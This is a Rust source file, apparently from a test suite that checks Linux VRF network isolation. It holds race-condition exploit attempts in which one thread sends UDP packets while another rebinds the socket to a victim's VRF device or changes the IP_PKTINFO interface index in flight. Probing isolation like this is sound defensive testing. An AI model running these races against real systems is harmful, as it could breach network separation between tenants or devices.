//! By changing, between a check and what follows it, what was checked: two threads use one socket.
#![allow(unsafe_code, reason = "ancillary data that changes")]

use super::socket::{self, PATIENCE, inet, into_vrf, victim};
use super::{Aim, Attempt};
use socket2::{SockAddr, Socket, Type};
use std::io;
use std::mem::MaybeUninit;
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::thread;
use std::time::Instant;

/// The attempts.
#[must_use]
pub fn attempts() -> Vec<Attempt> {
    let mut all = Vec::new();
    for (name, near) in [
        ("4", SocketAddr::from((Ipv4Addr::LOCALHOST, super::PORT))),
        ("6", SocketAddr::from((Ipv6Addr::LOCALHOST, super::PORT6))),
    ] {
        // While one sends, the other has the kernel forget the device, and names the victim's.
        all.push(Attempt::new(format!("race-device-sendto{name}"), move |aim, what| {
            let socket = inet(Type::DGRAM, near)?;
            let forget = || {
                let _undone = socket::disconnect(&socket);
                into_vrf(aim, &socket);
            };
            beside(&socket, forget, || socket.send_to(what.as_bytes(), &SockAddr::from(near)).map(drop))
        }));
        all.push(Attempt::new(format!("race-device-connect{name}"), move |aim, what| {
            let socket = inet(Type::DGRAM, near)?;
            let forget = || {
                let _undone = socket::disconnect(&socket);
                into_vrf(aim, &socket);
            };
            beside(&socket, forget, || {
                socket.connect(&near.into())?;
                socket.send(what.as_bytes()).map(drop)
            })
        }));
    }
    all.push(Attempt::new("race-disconnect-host", |aim, what| {
        let host = Aim::at(aim.host.into());
        let socket = inet(Type::DGRAM, host)?;
        let forget = || drop(socket::disconnect(&socket));
        beside(&socket, forget, || socket.send_to(what.as_bytes(), &SockAddr::from(host)).map(drop))
    }));
    all.push(Attempt::new("race-message", |aim, what| {
        let near = victim();
        let socket = inet(Type::DGRAM, near)?;
        changing_message(&socket, socket::index(&aim.vrf())?, near, what)
    }));
    all
}

/// Sends again and again, until somebody answers, while another thread changes something again and again.
fn beside(
    socket: &Socket,
    change: impl Fn() + Sync,
    send: impl Fn() -> io::Result<()>,
) -> io::Result<String> {
    let stop = AtomicBool::new(false);
    let answered = thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                change();
            }
        });
        let end = Instant::now() + PATIENCE;
        let mut answered = false;
        while !answered && Instant::now() < end {
            let _refused_or_not = send();
            answered = socket.recv_with_flags(&mut [MaybeUninit::uninit(); 1], libc::MSG_DONTWAIT).is_ok();
        }
        stop.store(true, Ordering::Relaxed);
        answered
    });
    // Where the answer comes to another device, the victim's server knows.
    if answered { Ok("an answer".to_owned()) } else { Err(io::ErrorKind::TimedOut.into()) }
}

/// The same with a message whose device changes while the kernel reads it.
fn changing_message(socket: &Socket, index: u32, to: SocketAddr, what: &str) -> io::Result<String> {
    let none = libc::in_addr { s_addr: 0 };
    let info = libc::in_pktinfo { ipi_ifindex: 0, ipi_spec_dst: none, ipi_addr: none };
    let (level, kind) = (libc::IPPROTO_IP, libc::IP_PKTINFO);
    let mut answer = Err(io::ErrorKind::TimedOut.into());
    socket::with_message(to, what.as_bytes(), level, kind, info, |message| {
        // SAFETY: the data begins with the index, behind the header.
        let device = unsafe { &*libc::CMSG_DATA(message.msg_control.cast()).cast::<AtomicU32>() };
        let change = || {
            let _before = device.fetch_xor(index, Ordering::Relaxed);
        };
        answer = beside(socket, change, || socket::send(socket, message));
        Ok(())
    })?;
    answer
}
